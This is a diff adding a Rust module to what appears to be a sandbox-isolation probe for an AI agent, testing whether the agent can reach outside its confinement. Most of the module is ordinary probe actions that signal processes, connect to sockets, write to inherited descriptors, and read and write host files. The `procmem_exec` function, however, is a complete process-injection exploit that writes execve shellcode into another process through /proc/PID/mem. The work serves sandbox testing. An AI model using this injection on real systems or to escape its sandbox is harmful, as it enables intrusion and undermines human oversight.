@@ -1,0 +1,146 @@
+//! Reaching outside the agent: taking over another process through
+//! `/proc/PID/mem`, signalling it, connecting to its abstract Unix socket;
+//! using a descriptor inherited from the launcher; writing the host's
+//! files. Every action prints one JSON line like the rest of the probe.
+
+use std::{io, time::Duration};
+
+use serde_json::json;
+
+fn fail(step: &str, e: &io::Error) -> String {
+    json!({"ok": false, "step": step, "errno": e.raw_os_error().unwrap_or(-1), "error": e.to_string()})
+        .to_string()
+}
+
+fn ok() -> String {
+    json!({"ok": true}).to_string()
+}
+
+/// Run an action of this module (`None` for an unknown one).
+pub fn run(action: &str, args: &[String]) -> Option<String> {
+    Some(match action {
+        "idle" => {
+            // A victim: sleeps in short system calls so that code written
+            // over its return address runs soon.
+            let millis: u64 = args.first()?.parse().ok()?;
+            let end = std::time::Instant::now() + Duration::from_millis(millis);
+            while std::time::Instant::now() < end {
+                std::thread::sleep(Duration::from_millis(50));
+            }
+            ok()
+        }
+        "procmem-exec" => procmem_exec(args.first()?.parse().ok()?, &args[1..])?,
+        "kill" => {
+            let pid: i32 = args.first()?.parse().ok()?;
+            let sig: i32 = args.get(1)?.parse().ok()?;
+            // SAFETY: plain system call.
+            if unsafe { libc::kill(pid, sig) } != 0 {
+                return Some(fail("kill", &io::Error::last_os_error()));
+            }
+            ok()
+        }
+        "abstract-connect" => {
+            use std::os::linux::net::SocketAddrExt;
+            let addr = std::os::unix::net::SocketAddr::from_abstract_name(args.first()?).ok()?;
+            match std::os::unix::net::UnixStream::connect_addr(&addr) {
+                Ok(_) => ok(),
+                Err(e) => fail("connect", &e),
+            }
+        }
+        "write-fd" => {
+            let fd: i32 = args.first()?.parse().ok()?;
+            let text = args.get(1)?;
+            // SAFETY: writing a byte buffer to a descriptor number.
+            let n = unsafe { libc::write(fd, text.as_ptr().cast(), text.len()) };
+            if n < 0 {
+                return Some(fail("write", &io::Error::last_os_error()));
+            }
+            ok()
+        }
+        "write-file" => match std::fs::write(args.first()?, args.get(1)?) {
+            Ok(()) => ok(),
+            Err(e) => fail("write", &e),
+        },
+        "read-file" => match std::fs::read(args.first()?) {
+            Ok(b) => json!({"ok": true, "len": b.len()}).to_string(),
+            Err(e) => fail("read", &e),
+        },
+        "read-only" => {
+            // Is each path on a read-only mount (as this process sees it)?
+            let mut out = serde_json::Map::new();
+            for p in args {
+                let c = std::ffi::CString::new(p.as_str()).ok()?;
+                // SAFETY: statvfs into a zeroed struct.
+                let mut st: libc::statvfs = unsafe { std::mem::zeroed() };
+                let ro = unsafe { libc::statvfs(c.as_ptr(), &mut st) } == 0
+                    && st.f_flag & libc::ST_RDONLY != 0;
+                out.insert(p.clone(), ro.into());
+            }
+            json!({"ok": true, "read_only": out}).to_string()
+        }
+        _ => return None,
+    })
+}
+
+/// The red team's attack: find where `pid` is blocked in a system call,
+/// write code there through `/proc/PID/mem` that execs `argv`, and let it
+/// return into it. The victim then runs `argv` as itself.
+#[cfg(target_arch = "x86_64")]
+fn procmem_exec(pid: i32, argv: &[String]) -> Option<String> {
+    let mut rip = None;
+    for _ in 0..100 {
+        let text = match std::fs::read_to_string(format!("/proc/{pid}/syscall")) {
+            Ok(t) => t,
+            Err(e) => return Some(fail("syscall", &e)),
+        };
+        let f: Vec<&str> = text.split_whitespace().collect();
+        if !matches!(f.first(), Some(&"running") | Some(&"-1")) {
+            rip = f
+                .last()
+                .and_then(|r| u64::from_str_radix(r.trim_start_matches("0x"), 16).ok());
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let base = rip?;
+    // mov rdi, path; mov rsi, argv; xor edx, edx; mov eax, 59; syscall
+    let code_len = 10 + 10 + 2 + 5 + 2;
+    let mut strings = Vec::new();
+    let mut offsets = Vec::new();
+    for a in argv {
+        offsets.push(code_len + strings.len());
+        strings.extend_from_slice(a.as_bytes());
+        strings.push(0);
+    }
+    let argv_at = (code_len + strings.len() + 7) & !7;
+    let mut blob = Vec::new();
+    blob.extend_from_slice(&[0x48, 0xbf]);
+    blob.extend_from_slice(&(base + offsets[0] as u64).to_le_bytes());
+    blob.extend_from_slice(&[0x48, 0xbe]);
+    blob.extend_from_slice(&(base + argv_at as u64).to_le_bytes());
+    blob.extend_from_slice(&[0x31, 0xd2, 0xb8, 59, 0, 0, 0, 0x0f, 0x05]);
+    blob.extend_from_slice(&strings);
+    blob.resize(argv_at, 0);
+    for o in &offsets {
+        blob.extend_from_slice(&(base + *o as u64).to_le_bytes());
+    }
+    blob.extend_from_slice(&0u64.to_le_bytes());
+    use std::os::unix::fs::FileExt;
+    let mem = match std::fs::OpenOptions::new()
+        .read(true)
+        .write(true)
+        .open(format!("/proc/{pid}/mem"))
+    {
+        Ok(f) => f,
+        Err(e) => return Some(fail("open-mem", &e)),
+    };
+    if let Err(e) = mem.write_all_at(&blob, base) {
+        return Some(fail("write-mem", &e));
+    }
+    Some(json!({"ok": true, "wrote": blob.len(), "at": base}).to_string())
+}
+
+#[cfg(not(target_arch = "x86_64"))]
+fn procmem_exec(_pid: i32, _argv: &[String]) -> Option<String> {
+    Some(json!({"ok": false, "step": "arch", "errno": -1, "error": "x86-64 only"}).to_string())
+}
